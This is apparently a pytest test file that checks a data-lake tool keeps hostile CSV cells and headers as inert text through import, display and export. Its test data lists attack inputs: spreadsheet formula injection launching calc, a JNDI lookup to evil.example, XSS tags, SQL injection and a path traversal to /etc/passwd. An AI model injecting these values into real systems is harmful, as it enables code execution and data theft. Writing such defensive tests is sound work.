"""Cells that would do harm: each goes in, is seen, found and exported, and is the text that it was; nothing of it is run."""

import json
import string

import pytest

from tests.hostile.journey import out_and_back, reads_alike, seen_at_every_door, take_in, unguarded, visible, write_csv
from xrm_lake.model.entity_type import EntityType, Field
from xrm_lake.reports.build import build_report
from xrm_lake.reports.render import render
from xrm_lake.store.doctor import doctor
from xrm_lake.store.model import add_type
from xrm_lake.store.records import delete_record

NOTE = EntityType(
    "note",
    "Note",
    "Notes",
    caption=("name",),
    fields=(Field("name", "Name", "text"), Field("body", "Body", "long_text")),
)
OWN = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","x")', "'=1", "''=1", "\t=1", "\n=1", "＝1+1",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</style></textarea>", "javascript:alert(1)", "&lt;b&gt; &amp;",
    "'; drop table entity; --", '" or 1=1 --', "$1 $id :name {0} %s", "\\'; select 1", "/* */ -- x",
    "**bold** [x](http://evil.example) :red[x] $x$", "| a | b |", "#NAME?", "../../etc/passwd", "C:\\CON\\NUL", "${jndi:ldap://evil.example/a}",
    "a\x00b", "bell\x07 and \x1b[31mred\x1b[0m", "a\u202egnp.exe", "\u2066x\u2069", "z\u200bw", "\ufeffbom", "e\u0301", "ﬁ", "İstanbul ı ß",
    "👩‍👩‍👧‍👦 🏳️‍🌈", "\U000e0041tag", "中文字符 العربية עברית ไทย", "a,b;c\td|e", 'say "hi"', "two\nlines\r\nthree", "x" * 30_000,
    "NULL", "None", "NaN", "true",
    "1E+02", "007", "1.0", "2020-01-01", " lead and trail ", "\u00a0", "_x0041_", "Z̮̞̠͙͔ͅA̩̱̝̤̘L̖G͍O!",
)  # fmt: skip


@pytest.fixture
def notes(lake):
    add_type(lake, NOTE)
    return lake


def bring(lake, folder, cells):
    rows = [(f"k{place}", cell, cell) for place, cell in enumerate(cells)]
    return take_in(lake, write_csv(folder / "in.csv", ("key", "name", "body"), rows), "note", ("name", "body"))


def test_hostile_cells_come_in_and_are_the_text_that_they_were(notes, tmp_path):
    done = bring(notes, tmp_path, OWN)

    held = dict(
        notes.query("select source_key, struct_pack(name, body) from entity e join note n on n.id = e.id").rows()
    )
    assert (done.new, done.rejected) == (len(OWN), 0)
    for place, cell in enumerate(OWN):
        assert all(reads_alike(text, unguarded(cell)) for text in held[f"k{place}"].values()), repr(cell)
    assert doctor(notes).healthy


def test_hostile_cells_are_the_same_at_every_door_and_back_again(notes, tmp_path):
    bring(notes, tmp_path, OWN)

    seen_at_every_door(notes, "note", "name", opened=len(OWN))
    seen_at_every_door(notes, "note", "body", opened=0)
    for form in ("csv", "xlsx", "jsonl", "parquet"):
        out_and_back(notes, tmp_path, NOTE, form)


def test_hostile_names_are_only_text_on_a_page(lake, tmp_path):
    from tests.hygiene.many import add_many

    add_many(lake, "organisation", [{"name": cell, "city": cell} for cell in OWN if visible(cell)])

    page = render(build_report(lake, "weekly"), "html")

    assert "<script>alert(1)" not in page
    assert "<img src=x" not in page


def test_the_big_list_of_naughty_strings_goes_in_and_out_unchanged(notes, tmp_path, shared_data):
    cells = json.loads((shared_data / "security" / "blns.json").read_text(encoding="utf-8"))

    done = bring(notes, tmp_path, cells)

    held = dict(notes.query("select source_key, body from entity e join note n on n.id = e.id").rows())
    changed = [cell for place, cell in enumerate(cells) if not reads_alike(held[f"k{place}"], unguarded(cell))]
    assert (done.new, done.rejected) == (len(cells), 0)
    assert changed == []
    seen_at_every_door(notes, "note", "name", opened=60)
    for form in ("csv", "jsonl"):
        out_and_back(notes, tmp_path, NOTE, form)
    # What is no character at all has no place in a workbook.
    notes_with = [id for id, body in notes.query("select id, body from note").rows() if "\ufffe" in (body or "")]
    for id in notes_with:
        delete_record(notes, id)
    out_and_back(notes, tmp_path, NOTE, "xlsx")


def test_headers_may_be_hostile_too(lake, tmp_path):
    headers = [
        "=cmd|' /C calc'!A0",
        "<script>alert(1)</script>",
        "'; drop table entity; --",
        'say "hi"',
        "${jndi:x}",
        "a\u202egnp",
        "_raw",
        "r.id",
    ]
    rows = [[f"{letter}{place}" for place in range(len(headers))] for letter in string.ascii_lowercase[:3]]
    path = write_csv(tmp_path / "odd.csv", ["key", "name", *headers], [[row[0], row[0], *row] for row in rows])

    done = take_in(lake, path, "organisation", ("name",))

    kept = json.loads(lake.query("select extra::varchar from organisation order by id limit 1").value())
    assert (done.new, done.rejected) == (3, 0)
    assert {f"a{place}" for place in range(len(headers))} <= set(kept.values()) | {
        value
        for value in lake.query("select * from organisation order by id limit 1").rows()[0]
        if isinstance(value, str)
    }
